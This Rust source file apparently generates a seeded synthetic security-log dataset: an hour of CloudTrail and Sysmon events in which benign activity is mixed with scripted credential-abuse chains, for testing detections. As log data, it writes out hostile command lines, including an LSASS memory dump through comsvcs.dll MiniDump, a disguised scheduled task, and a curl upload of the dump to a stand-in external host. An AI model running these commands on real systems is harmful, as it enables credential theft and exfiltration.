//! The demo dataset (the `demo` preset of [the generator](super)): one hour of CloudTrail and
//! Windows events, seeded and byte-reproducible, with full credential-abuse chains for a few
//! identities (at machine speed and at human speed) among benign traffic that shares their
//! vocabulary (an admin listing users, a CI role reading its deploy secret, a user running
//! whoami, a machine account updating its tasks). Events are written slightly out of order,
//! within the default lateness.

use std::io::{self, Write};

use serde_json::{Value, json};

use super::rng::Rng;
use crate::time::{EventTime, Span};

/// What to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Preset {
    Demo,
}

impl Preset {
    pub fn from_name(name: &str) -> Option<Preset> {
        match name {
            "demo" => Some(Preset::Demo),
            _ => None,
        }
    }
}

const ACCOUNT: &str = "111122223333";

struct Gen {
    rng: Rng,
    events: Vec<(EventTime, i64, Value)>,
    record: u64,
}

impl Gen {
    fn push(&mut self, t: EventTime, v: Value) {
        // Delivery jitter up to 20 s: the file is not sorted, but within the default lateness.
        let jitter = self.rng.below(20_000) as i64;
        self.events.push((t, t.as_millis() + jitter, v));
    }

    fn cloudtrail(
        &mut self,
        t: EventTime,
        arn: &str,
        source: &str,
        name: &str,
        params: Value,
        agent: &str,
    ) {
        let (kind, user) = if arn.contains(":assumed-role/") {
            ("AssumedRole", None)
        } else {
            ("IAMUser", arn.rsplit('/').next())
        };
        let mut identity = json!({
            "type": kind,
            "arn": arn,
            "accountId": ACCOUNT,
            "accessKeyId": format!("AKIA{:016X}", self.rng.next_u64() & 0xffff_ffff_ffff),
            "principalId": format!("AIDA{:016X}", arn.len() as u64 * 7919),
        });
        if let Some(u) = user {
            identity["userName"] = json!(u);
        }
        let v = json!({
            "eventVersion": "1.08",
            "userIdentity": identity,
            "eventTime": t.to_string().replace(".000Z", "Z"),
            "eventSource": source,
            "eventName": name,
            "awsRegion": "eu-west-1",
            "sourceIPAddress": format!("203.0.113.{}", 10 + self.rng.below(200)),
            "userAgent": agent,
            "requestParameters": params,
            "responseElements": null,
            "requestID": self.rng.uuid(),
            "eventID": self.rng.uuid(),
            "readOnly": name.starts_with("Get") || name.starts_with("List") || name.starts_with("Describe"),
            "eventType": "AwsApiCall",
            "managementEvent": true,
            "recipientAccountId": ACCOUNT,
        });
        self.push(t, v);
    }

    /// A Sysmon process creation in the flat winlogbeat/OTRF layout.
    fn sysmon_process(&mut self, t: EventTime, host: &str, user: &str, image: &str, cmd: &str) {
        self.record += 1;
        let v = json!({
            "@timestamp": t.to_string(),
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "Hostname": host,
            "RecordNumber": self.record,
            "User": user,
            "Image": image,
            "CommandLine": cmd,
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ProcessGuid": format!("{{{}}}", self.rng.uuid()),
            "UtcTime": t.to_string().replace('T', " ").trim_end_matches('Z').to_string(),
        });
        self.push(t, v);
    }

    /// A Security-log event in the nested layout EVTX converters write.
    fn security_nested(&mut self, t: EventTime, host: &str, event_id: u32, data: Value) {
        self.record += 1;
        let v = json!({
            "Event": {
                "System": {
                    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                    "EventID": event_id,
                    "EventRecordID": self.record,
                    "Channel": "Security",
                    "Computer": host,
                    "TimeCreated": {"#attributes": {"SystemTime": t.to_string()}},
                },
                "EventData": data,
            }
        });
        self.push(t, v);
    }
}

/// Writes the preset's events as JSON lines; returns how many.
pub fn generate(preset: Preset, seed: u64, out: &mut dyn Write) -> io::Result<u64> {
    match preset {
        Preset::Demo => demo(seed, out),
    }
}

fn demo(seed: u64, out: &mut dyn Write) -> io::Result<u64> {
    let start = EventTime::parse("2026-11-02T09:00:00Z").unwrap_or(EventTime(0));
    let mut g = Gen {
        rng: Rng::new(seed),
        events: Vec::new(),
        record: 4_000_000,
    };
    let at = |secs: i64| start.plus(Span::from_secs(secs));
    let arn = |name: &str| format!("arn:aws:iam::{ACCOUNT}:user/{name}");
    let cli = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22";
    let boto = "Boto3/1.34.51 Python/3.11.8 Linux/6.5.0 Botocore/1.34.51";
    let console = "console.amazonaws.com";

    // Benign background: an hour of ordinary work.
    for minute in 0..60i64 {
        let s = minute * 60;
        // An administrator looks at users and instances now and then (enumeration only).
        if minute % 7 == 0 {
            g.cloudtrail(
                at(s + 5),
                &arn("alice"),
                "iam.amazonaws.com",
                "ListUsers",
                json!({}),
                console,
            );
            g.cloudtrail(
                at(s + 9),
                &arn("alice"),
                "ec2.amazonaws.com",
                "DescribeInstances",
                json!({"filterSet": {}}),
                console,
            );
        }
        // A CI role reads its deploy secret and describes instances: two stages, never more.
        if minute % 15 == 3 {
            let role = format!(
                "arn:aws:sts::{ACCOUNT}:assumed-role/ci-deployer/gh-run-{}",
                4000 + minute
            );
            g.cloudtrail(
                at(s),
                &role,
                "secretsmanager.amazonaws.com",
                "GetSecretValue",
                json!({"secretId": "ci/deploy-token"}),
                boto,
            );
            g.cloudtrail(
                at(s + 20),
                &role,
                "ec2.amazonaws.com",
                "DescribeInstances",
                json!({"filterSet": {}}),
                boto,
            );
        }
        // Applications doing their job.
        for _ in 0..20 {
            let app = format!(
                "arn:aws:sts::{ACCOUNT}:assumed-role/app-{}/i-0{:x}",
                g.rng.below(6),
                g.rng.below(1 << 40)
            );
            let (src, name) = *g.rng.pick(&[
                ("s3.amazonaws.com", "GetObject"),
                ("s3.amazonaws.com", "PutObject"),
                ("kms.amazonaws.com", "Decrypt"),
                ("dynamodb.amazonaws.com", "Query"),
                ("sqs.amazonaws.com", "ReceiveMessage"),
            ]);
            let off = g.rng.below(60) as i64;
            g.cloudtrail(
                at(s + off),
                &app,
                src,
                name,
                json!({"bucketName": "app-data", "key": "orders/today.json"}),
                boto,
            );
        }
        // Workstation users: discovery commands alone are not a chain.
        if minute % 10 == 4 {
            g.sysmon_process(
                at(s + 30),
                "WKS07.contoso.local",
                "CONTOSO\\bob",
                "C:\\Windows\\System32\\whoami.exe",
                "whoami /groups",
            );
        }
        if minute % 20 == 11 {
            g.sysmon_process(
                at(s + 12),
                "WKS07.contoso.local",
                "CONTOSO\\bob",
                "C:\\Windows\\System32\\net.exe",
                "net use",
            );
        }
        // The machine account maintains its own scheduled tasks.
        if minute % 30 == 17 {
            g.security_nested(
                at(s + 2),
                "WKS01.contoso.local",
                4698,
                json!({"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WKS01$", "SubjectDomainName": "CONTOSO", "TaskName": "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"}),
            );
        }
    }

    // Attack 1, machine speed: a stolen service user runs the whole cloud chain in 40 seconds.
    let svc = arn("svc-reporting");
    let t0 = 17 * 60 + 13;
    g.cloudtrail(
        at(t0),
        &svc,
        "sts.amazonaws.com",
        "GetCallerIdentity",
        json!({}),
        cli,
    );
    for (i, secret) in [
        "prod/db/password",
        "prod/stripe/api-key",
        "prod/github/deploy-key",
    ]
    .iter()
    .enumerate()
    {
        g.cloudtrail(
            at(t0 + 2 + i as i64),
            &svc,
            "secretsmanager.amazonaws.com",
            "GetSecretValue",
            json!({"secretId": secret}),
            cli,
        );
    }
    g.cloudtrail(
        at(t0 + 6),
        &svc,
        "iam.amazonaws.com",
        "ListUsers",
        json!({}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 7),
        &svc,
        "iam.amazonaws.com",
        "ListRoles",
        json!({}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 9),
        &svc,
        "s3.amazonaws.com",
        "ListBuckets",
        json!({}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 14),
        &svc,
        "iam.amazonaws.com",
        "CreateUser",
        json!({"userName": "backup-operator"}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 15),
        &svc,
        "iam.amazonaws.com",
        "CreateAccessKey",
        json!({"userName": "backup-operator"}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 21),
        &svc,
        "events.amazonaws.com",
        "PutRule",
        json!({"name": "nightly-sync", "scheduleExpression": "rate(5 minutes)"}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 22),
        &svc,
        "events.amazonaws.com",
        "PutTargets",
        json!({"rule": "nightly-sync"}),
        cli,
    );
    g.cloudtrail(
        at(t0 + 38),
        &svc,
        "ec2.amazonaws.com",
        "ModifySnapshotAttribute",
        json!({"snapshotId": "snap-0a1b2c3d4e5f60718", "createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}),
        cli,
    );

    // Attack 2, human speed: a user reads a secret, browses, and adds a console password 38
    // minutes later. Only the persistence chain completes (no data shared).
    let dana = arn("dana");
    g.cloudtrail(
        at(8 * 60),
        &dana,
        "secretsmanager.amazonaws.com",
        "GetSecretValue",
        json!({"secretId": "prod/db/password"}),
        console,
    );
    g.cloudtrail(
        at(23 * 60),
        &dana,
        "s3.amazonaws.com",
        "ListBuckets",
        json!({}),
        console,
    );
    g.cloudtrail(
        at(46 * 60),
        &dana,
        "iam.amazonaws.com",
        "CreateLoginProfile",
        json!({"userName": "dana-admin"}),
        console,
    );

    // A near miss: a user reads a secret and creates an access key, but never enumerates.
    let erin = arn("erin");
    g.cloudtrail(
        at(30 * 60),
        &erin,
        "secretsmanager.amazonaws.com",
        "GetSecretValue",
        json!({"secretId": "dev/api"}),
        cli,
    );
    g.cloudtrail(
        at(31 * 60),
        &erin,
        "iam.amazonaws.com",
        "CreateAccessKey",
        json!({"userName": "erin"}),
        cli,
    );

    // Attack 3, machine speed on a workstation: LSASS dump, discovery, scheduled task (the
    // task event in the nested EVTX layout), upload with curl, all within 50 seconds.
    let eve = "CONTOSO\\eve";
    let host = "WKS12.contoso.local";
    let t1 = 41 * 60 + 5;
    g.sysmon_process(
        at(t1),
        host,
        eve,
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full",
    );
    g.sysmon_process(
        at(t1 + 8),
        host,
        eve,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /all",
    );
    g.sysmon_process(
        at(t1 + 11),
        host,
        eve,
        "C:\\Windows\\System32\\net.exe",
        "net group \"domain admins\" /domain",
    );
    g.sysmon_process(
        at(t1 + 19),
        host,
        eve,
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /tn \"OneDrive Sync\" /tr C:\\Users\\Public\\sync.exe /sc minute /mo 5",
    );
    g.security_nested(
        at(t1 + 19),
        host,
        4698,
        json!({"SubjectUserSid": "S-1-5-21-1-2-3-1107", "SubjectUserName": "eve", "SubjectDomainName": "CONTOSO", "TaskName": "\\OneDrive Sync"}),
    );
    g.sysmon_process(
        at(t1 + 47),
        host,
        eve,
        "C:\\Windows\\System32\\curl.exe",
        "curl.exe -T C:\\Users\\Public\\l.dmp https://files.example.net/upload",
    );

    g.events.sort_by(|a, b| a.1.cmp(&b.1).then(a.0.cmp(&b.0)));
    let mut n = 0u64;
    for (_, _, v) in &g.events {
        serde_json::to_writer(&mut *out, v)?;
        out.write_all(b"\n")?;
        n += 1;
    }
    Ok(n)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let mut a = Vec::new();
        let mut b = Vec::new();
        let mut c = Vec::new();
        generate(Preset::Demo, 7, &mut a).unwrap();
        generate(Preset::Demo, 7, &mut b).unwrap();
        generate(Preset::Demo, 8, &mut c).unwrap();
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert!(a.len() > 100_000);
    }
}
